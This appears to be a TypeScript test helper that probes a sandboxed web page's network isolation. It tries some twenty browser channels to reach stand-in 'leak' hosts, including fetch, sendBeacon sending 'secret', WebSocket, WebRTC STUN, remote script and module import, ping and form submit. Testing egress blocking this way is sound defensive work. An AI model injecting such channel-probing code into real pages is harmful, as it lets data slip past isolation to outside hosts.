/** Where a leak would go: a name, which has to be asked for first, and addresses, which do not. */
export const targets = ['leak.example.com', '192.0.2.7', '[2001:db8::7]'] as const;

/**
 * Tries every way that a page has to reach the network, from inside the page. Gives which ways were tried. It is sent
 * into the page as text, so that it may use nothing from outside of itself.
 */
export function tryToLeak(hosts: readonly string[]): string[] {
  const add = (name: string, attributes: Readonly<Record<string, string>>, text = '') => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    element.textContent = text;
    document.head.append(element);
    return element;
  };
  const connect = async (url: string) => {
    const Connection: unknown = Reflect.get(window, 'RTCPeerConnection');
    if (typeof Connection !== 'function') return;
    const connection = Reflect.construct(Connection, [
      { iceServers: [{ urls: `stun:${new URL(url).host}:3478` }] },
    ]);
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
  };
  const transport = (url: string) => {
    const Transport: unknown = Reflect.get(window, 'WebTransport');
    if (typeof Transport === 'function') Reflect.construct(Transport, [`${url}transport`]);
  };
  const click = (attributes: Readonly<Record<string, string>>) => {
    const link = add('a', attributes);
    link.addEventListener('click', (event) => attributes.ping || event.preventDefault());
    link.click();
  };
  const submit = (url: string) => {
    const form = document.createElement('form');
    form.action = `${url}form`;
    form.method = 'post';
    form.target = 'elsewhere';
    document.body.append(form);
    form.submit();
  };
  const ways: Readonly<Record<string, (url: string) => unknown>> = {
    fetch: (url) => fetch(url, { mode: 'no-cors' }),
    image: (url) => Object.assign(new Image(), { src: `${url}image.png` }),
    websocket: (url) => new WebSocket(url.replace('http', 'ws')),
    beacon: (url) => navigator.sendBeacon(`${url}beacon`, 'secret'),
    preconnect: (url) => add('link', { rel: 'preconnect', href: url }),
    'dns-prefetch': (url) => add('link', { rel: 'dns-prefetch', href: url }),
    prefetch: (url) => add('link', { rel: 'prefetch', href: `${url}next` }),
    iframe: (url) =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: url })),
    webrtc: connect,
    worker: (url) => new Worker(`${url}worker.js`),
    'css url()': (url) =>
      document.body.style.setProperty('background-image', `url("${url}back.png")`),
    'font-face': (url) => new FontFace('leak', `url("${url}font.woff2")`).load(),
    'import()': (url) => import(/* @vite-ignore */ `${url}module.js`),
    eventsource: (url) => new EventSource(`${url}events`),
    webtransport: transport,
    ping: (url) => click({ href: '#', ping: `${url}ping` }),
    favicon: (url) => add('link', { rel: 'icon', href: `${url}icon.png` }),
    manifest: (url) => add('link', { rel: 'manifest', href: `${url}manifest.json` }),
    script: (url) => add('script', { src: `${url}script.js` }),
    stylesheet: (url) => add('link', { rel: 'stylesheet', href: `${url}sheet.css` }),
    'form submit': submit,
    'window.open': (url) => window.open(`${url}window`),
  };
  for (const attempt of Object.values(ways)) {
    for (const host of hosts) {
      for (const scheme of ['http', 'https']) {
        // What is refused at once has leaked nothing; the packets tell about the rest.
        try {
          Promise.resolve(attempt(`${scheme}://${host}/`)).catch(() => undefined);
        } catch {}
      }
    }
  }
  return Object.keys(ways);
}
